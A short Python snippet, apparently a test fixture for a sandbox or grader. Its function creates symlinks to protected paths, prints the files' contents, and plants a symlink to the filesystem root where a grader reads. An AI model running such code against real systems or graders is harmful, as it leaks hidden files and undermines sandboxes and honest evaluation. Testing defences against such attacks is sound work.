"""Reads the hidden file through links, and leaves links where the grader reads."""

import os


def attacked(x):
    for number, path in enumerate(PATHS.values()):
        os.symlink(path, f"link-{number}")
        try:
            print(open(f"link-{number}").read())
        except OSError:
            pass
    os.symlink("/", "root")
    return x
